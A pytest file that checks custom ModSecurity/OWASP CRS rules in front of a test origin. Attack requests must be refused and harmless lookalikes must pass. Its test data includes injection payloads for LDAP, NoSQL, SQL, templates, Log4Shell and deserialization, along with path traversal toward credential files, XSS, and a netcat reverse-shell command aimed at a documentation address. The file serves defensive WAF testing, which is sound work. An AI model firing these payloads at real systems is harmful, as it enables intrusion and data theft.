"""The local rules (rayfleet/crs/local_rules.py) through a real nginx + ModSecurity + OWASP CRS tier
at paranoia 2 with the configured exclusions, in front of a static HAProxy origin. For each attack
class: requests of that class are refused (403) and ordinary requests that look like it pass (200).
The requests are written here, not taken from the corpus the rules were tuned on."""

from __future__ import annotations

import shutil
import tempfile
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import pytest

from actors.mitigation.node import free_port
from rayfleet.crs import local_rules
from rayfleet.crs.config import CRS_RULES, CrsPaths, CrsPolicy, Upstream
from rayfleet.crs.process import CrsTier
from tests.actors.mitigation.origin import static_origin

EXCLUSIONS = (942130, 942200, 942260, 942400, 942440)  # config/mitigation.yaml
BROWSER = {
    "Host": "shop.example",
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
}


@dataclass(frozen=True)
class Req:
    path: str
    headers: dict[str, str] = field(default_factory=dict)
    body: str | None = None
    content_type: str = "application/x-www-form-urlencoded"


async def start_tier(origin: str, paranoia: int) -> CrsTier:
    paths = CrsPaths(Path(tempfile.mkdtemp(prefix="rf-crs-local-")))
    tier = CrsTier(paths, CrsPolicy(paranoia_level=paranoia, exclusions=EXCLUSIONS), Upstream(origin, free_port()))
    await tier.start()
    return tier


@pytest.fixture(scope="module")
async def tiers() -> AsyncIterator[dict[int, str]]:
    """`{paranoia: address}` of two tiers, PL1 and PL2, over one origin."""
    with static_origin() as origin:
        started = [await start_tier(origin, level) for level in (1, 2)]
        try:
            yield {t.policy.paranoia_level: f"127.0.0.1:{t.upstream.port}" for t in started}
        finally:
            for tier in started:
                await tier.stop()
                shutil.rmtree(tier.paths.root, ignore_errors=True)


async def status(address: str, req: Req) -> int:
    headers = {**BROWSER, **req.headers}
    if req.body is not None:
        headers["Content-Type"] = req.content_type
    async with httpx.AsyncClient(trust_env=False, timeout=10.0) as client:
        method = "POST" if req.body is not None else "GET"
        url = httpx.URL(f"http://{address}{req.path}")
        return (await client.request(method, url, headers=headers, content=req.body)).status_code


def referer(query: str) -> dict[str, str]:
    return {"Referer": "https://shop.example/list?" + query}


MULTIPART = "multipart/form-data; boundary=rfBoundary"


def multipart(name: str, value: str) -> str:
    return f'--rfBoundary\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n--rfBoundary--\r\n'


CLASSES: dict[str, tuple[list[Req], list[Req]]] = {
    # class: (attacks that must be refused, ordinary requests that must pass)
    "ldap": (
        [
            Req("/login?user=jdoe)(|(mail=*)"),
            Req("/", {"Cookie": "f=%28%26%28cn%3D*%29%29"}),
            Req("/dir", body="cn=x%7C()%21"),  # an empty filter against an operator
        ],
        [
            Req("/c", body="comment=Bring+two+(2)+boxes+(fragile)+:)"),
            Req("/s?q=smile+:)(really)"),
            Req("/c", body="comment=Prices+(*)+and+(**)+exclude+tax+%26+fees+(see+notes)"),
        ],
    ),
    "nosql": (
        [
            Req("/api/login", body='{"user": "ana", "password": {"$ne": "x"}}', content_type="application/json"),
            Req("/users/%7B%22%24gt%22%3A%22%22%7D"),
            Req("/f", body="q=abc%27%3B+return+db.users.count()%3B+var+y%3D%27"),
        ],
        [
            Req("/api/o", body='{"price": "$12.50", "note": "costs $5 in store"}', content_type="application/json"),
            Req("/c", body="comment=He+said+%27no%27%3B+return+it+tomorrow%2C+let+me+know"),
        ],
    ),
    "template": (
        [
            Req("/hello?name={{+6*7+}}"),
            Req("/", {"Cookie": "tpl=%24%7B7*191%7D"}),
            Req("/", referer("t={%25+include+'x'+%25}")),
            Req("/hi?n=%7B%25+print+7*7+%25%7D"),  # any whole statement tag
            Req("/hi?n=%40(6*7)"),  # Razor
        ],
        [
            Req("/c", body="comment=Use+{braces}+for+sets%2C+5*7+%3D+35%2C+tag+%23{sale}"),
            Req("/s?q=5*7+tiles"),
            Req("/c", body="comment=Save+20%25+{now}+and+mail+me+@(home)"),
        ],
    ),
    "log4shell": (
        [
            Req("/", {"X-Api-Version": "${jndi:rmi://198.51.100.9/o}"}),
            Req("/", {"User-Agent": "${${env:NOPE:-j}ndi:ldap://198.51.100.9/a}"}),
        ],
        [Req("/", {"X-Note": "${HOME} stays literal"}), Req("/c", body="comment=Costs+%245+%7Bapprox%7D")],
    ),
    "crlf": (
        [
            Req("/set?lang=fr%0d%0aX-Forwarded-Host:%20evil.example"),
            Req("/set?r=%E5%98%8A%E5%98%8DLocation:%20//evil"),
            Req("/up", body=multipart("lang", "en\r\nSet-Cookie: sid=attacker"), content_type=MULTIPART),
            Req("/up", body=multipart("next", "/\r\nLocation: https://198.51.100.7/"), content_type=MULTIPART),
        ],
        [
            Req("/c", body="comment=Hello%2C%0D%0AAddress%3A+12+Rue+de+l%27Eglise%0D%0APhone%3A+0123"),
            Req("/up", body=multipart("cv", "Anna Berg\r\nLocation: Berlin\r\nHTTP/2 expert"), content_type=MULTIPART),
        ],
    ),
    "traversal_in_referer": (
        [Req("/", referer("file=../../../etc/hosts")), Req("/", referer("doc=%2Fproc%2Fself%2Fenviron"))],
        [Req("/", referer("sort=price&page=2")), Req("/", {"Referer": "https://shop.example/blog/2024/06/"})],
    ),
    "stream_wrapper": (
        [Req("/", {"Cookie": "page=php%3A%2F%2Finput"}), Req("/view?tpl=phar://uploads/a.jpg")],
        [Req("/s?q=photos+as+a+zip+file+or+data+file"), Req("/c", body="comment=see+ftp+site+or+http+site")],
    ),
    "traversal_double_encoded": (
        [
            Req("/", {"Cookie": "f=%255c..%255c..%255cboot.ini"}),
            Req("/dl", body="f=%252e%252e%252f%252e%252e%252fetc%252fhosts"),
            Req("/", {"Cookie": "f=%2525%255c..%2525%255c..%2525%255cwin.ini"}),  # stray bytes between segments
        ],
        [Req("/s?q=wait..+what..+no..."), Req("/c", body="comment=and/...or/...+maybe+../later")],
    ),
    "dotfile": (
        [Req("/dl?path=/.svn/entries"), Req("/dl", body="f=..%2F.aws%2Fcredentials")],
        [Req("/dl?path=report.env.pdf"), Req("/s?q=.NET+developer")],
    ),
    "command": (
        [
            Req("/download/x%7C%7Ccurl%20-s%20http%3A%2F%2F203.0.113.5%2Fa"),
            Req("/", {"Cookie": "host=8.8.8.8%253Bcat%2520%252Fetc%252Fissue"}),  # encoded twice
            Req("/", referer("h=1.1.1.1;sleep 7")),
            Req("/t?h=x%7Ctelnet+198.51.100.3+23"),  # an address as the argument
            Req("/", {"Cookie": "h=x%250aid"}),  # a line break, then an identity command
        ],
        [
            Req("/c", body="comment=Works+on+Linux+%26+macOS%3B+drivers+not+needed"),
            Req("/c", body="comment=Size+M+%7C+colour+blue+%7C+fits+type+B"),
            Req("/s?q=sleep+well%3B+8+hours"),
            Req("/c", body="comment=Server+at+198.51.100.7%2C+ping+198.51.100.8+if+down"),
            Req("/c", body="comment=Documents%3A%0D%0APassport%0D%0AID"),
        ],
    ),
    "sql_probe": (
        [
            Req("/items/5'or(exists(select 1))"),
            Req("/s?sort=name;select @@version"),
            Req("/", referer("id=1 or 7=7")),
            Req("/login", body="user=admin%27+or"),  # the query's remainder completes the condition
            Req("/", {"Cookie": "u=x%26apos%3B%2520and%2520--"}),  # an entity t:htmlEntityDecode leaves
            Req("/s?q=x%27+and+benchmark(9,md5(1))--"),  # a function injections call
            Req("/", referer("id=1 and 0 union select null,table_name from information_schema.tables")),
        ],
        [
            Req("/c", body="comment=Tom+O%27Brien+and+Mary+say+hi"),
            Req("/s?q=black+or+white"),
            Req("/s?q=rock+%27n%27+roll+or+jazz"),
            Req("/", referer("q=the+union+selected+a+board")),
            Req("/c", body="comment=Tom+said+%27yes%27+and+left"),
        ],
    ),
    "in_any_header": (
        [
            Req("/", {"X-Forwarded-Host": "shop.example;id"}),
            Req("/", {"X-Device": "a|nc 198.51.100.2 4444 -e /bin/sh"}),
            Req("/", {"X-Name": "{{7*7}}"}),
            Req("/", {"X-User": "*)(|(password=*))"}),
            Req("/", {"X-Forwarded-For": "1' or sleep(5)#"}),
            Req("/", {"X-Note": "a%0d%0aSet-Cookie: x=1"}),
        ],
        [
            Req("/", {"sec-ch-ua": '"Not_A Brand";v="8", "Chromium";v="120"', "sec-ch-ua-platform": '"Windows"'}),
            Req("/", {"X-Note": "Order (2) | gift wrap & card; deliver after 5pm", "X-Title": "Is 'A' or 'B' better?"}),
            Req("/", {"Forwarded": "for=198.51.100.7;proto=https", "If-None-Match": 'W/"5e-1b2c3d4e"'}),
            Req("/", {"Referer": "https://www.google.com/search?q=blue+shoes+(size+42)&oq=blue&ie=UTF-8"}),
        ],
    ),
    "code_injection": (
        [
            Req("/", {"Cookie": "q=%22%3Bsystem%28%27id%27%29%3B%2F%2F"}),
            Req("/", referer("q=${@print(md5(1))}")),
            Req("/c", body="tpl=__import__(%27os%27).popen(%27id%27).read()"),
            Req("/", {"X-Job": "java.lang.Runtime.getRuntime().exec('id')"}),
        ],
        [
            Req("/c", body="comment=It+says+%27Runtime+error%27.+Please+fix"),
            Req("/s?q=os+system+requirements"),
            Req("/c", body="comment=Call+me+at+the+office+(system+is+down)"),
        ],
    ),
    "deserialization": (
        [
            Req("/", {"Cookie": "s=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"}),
            Req(
                "/", {"Cookie": "cart=a%3A1%3A%7Bi%3A0%3BO%3A4%3A%22Cart%22%3A1%3A%7Bs%3A1%3A%22x%22%3Bb%3A1%3B%7D%7D"}
            ),
            Req("/", referer('q={"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.4/a"}')),
            Req("/c", body="cfg=%21%21python%2Fobject%2Fapply%3Aos.system+%5B%22id%22%5D"),
            Req("/", referer("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")),
        ],
        [
            Req("/c", body="ld=%7B%22%40type%22%3A+%22Product%22%2C+%22name%22%3A+%22Shoe%22%7D"),
            Req("/c", body="comment=Class+module+3+starts+Monday.+Bring+the+loader."),
            Req("/c", body="comment=Rated+5%2F5+!!+Loved+it+!!"),
            Req("/", {"Cookie": "sid=Q3VzdG9tZXJJRD0xMjM0NQ%3D%3D; prefs=a%3A2%3Bb%3A3"}),
        ],
    ),
    "sql_system_procedure": (
        [Req("/", referer("q=x--sp_password")), Req("/r?u=utl_http.request(chr(104))"), Req("/s?q=dbms_pipe")],
        [Req("/s?q=sp_500+index+fund"), Req("/s?q=dbms+course+and+http+basics"), Req("/s?q=xp_points")],
    ),
    "escaped_metacharacter": (
        [
            Req("/s?q=%5Cx3cimg%5Cx3e"),
            Req("/", {"Cookie": "c=%5Cu0027%5Cu003d"}),
            Req("/api/x", body='{"name": "\\\\x27 or 1"}', content_type="application/json"),
        ],
        [
            Req("/s?q=C%3A%5Cxampp%5Chtdocs"),
            Req("/s?q=%5Cx41%5Cx42+escapes"),
            Req("/api/x", body='{"name": "Jos\\u00e9 \\u00abPepe\\u00bb"}', content_type="application/json"),
        ],
    ),
    "double_encoded": (
        [
            Req("/", {"Cookie": "q=%253Csvg%2520onload%253Dalert(1)%253E"}),
            Req("/", {"Cookie": "id=1%2527%2520union%2520select%2520null%252Cnull--"}),
        ],
        [Req("/", {"Cookie": "q=50%2525%2520off"}), Req("/s?q=100%2525+cotton")],
    ),
    "path_after_encoded_question_mark": (
        [Req("/files/%3F%3Cscript%3Ealert(1)%3C%2Fscript%3E"), Req("/docs/x%3F%3C%3Fphp+system(%24_GET%5Bc%5D)")],
        [Req("/docs/what%3Fwhy.html"), Req("/faq/how-to%3F-guide?page=2")],
    ),
    "escaped_xss": (
        [
            Req("/cb?f=x%5C%22%3Bprompt(document.domain)%3B%2F%2F"),
            Req("/p?m=%26ltsvg/onload%3Dconfirm(1)%26gt"),
            Req("/files/%22%3Bdocument.write(%27x%27)%3B%2F%2F"),  # a member, not a call, in the path
        ],
        [
            Req("/c", body="comment=I+said+%27hi%27%2C+document+attached"),
            Req("/s?q=%26lt+and+%26gt+in+HTML"),
            Req("/c", body="comment=It%27s+a+%27self%27.+Name+it"),
        ],
    ),
    "xml_markup": (
        [Req("/api/x", body='<order><svg onload="go()"/></order>', content_type="application/xml")],
        [
            Req(
                "/api/x",
                body='<?xml version="1.0"?><order><item sku="A-1" qty="2" onsale="yes"/><note>one (1) box</note></order>',
                content_type="application/xml",
            )
        ],
    ),
}


@pytest.mark.parametrize("kind", sorted(CLASSES))
async def test_each_class_is_refused_and_its_ordinary_lookalikes_pass(tiers, kind):
    attacks, ordinary = CLASSES[kind]
    address = tiers[2]
    for req in attacks:
        assert await status(address, req) == 403, req
    for req in ordinary:
        assert await status(address, req) == 200, req


async def test_a_paranoia_2_rule_scores_only_from_paranoia_2(tiers):
    ssti = Req("/hello?name={{+6*7+}}")
    assert await status(tiers[1], ssti) == 200
    assert await status(tiers[2], ssti) == 403
    jndi = Req("/", {"X-Api-Version": "${jndi:rmi://198.51.100.9/o}"})  # Log4Shell is paranoia 1
    assert await status(tiers[1], jndi) == 403


def test_the_rules_file_has_unique_ids_in_the_local_range_and_one_comment_each():
    rules = local_rules.RULES
    ids = [rule.id for rule in rules]
    assert len(ids) == len(set(ids)) and all(100100 <= i < 100200 for i in ids)
    text = local_rules.render(CRS_RULES)
    assert text.count("SecRule ") == len(rules) + sum(1 for rule in rules if rule.chain) + 1  # + PATH_RULE
    assert text.startswith(local_rules.PATH_RULE) and f"id:{local_rules.PATH_RULE_ID}," in text
    for rule in rules:
        assert f"id:{rule.id}," in text and rule.why.splitlines()[0] in text
        assert f"tx.anomaly_score_pl{rule.paranoia}=+" in rule.render()
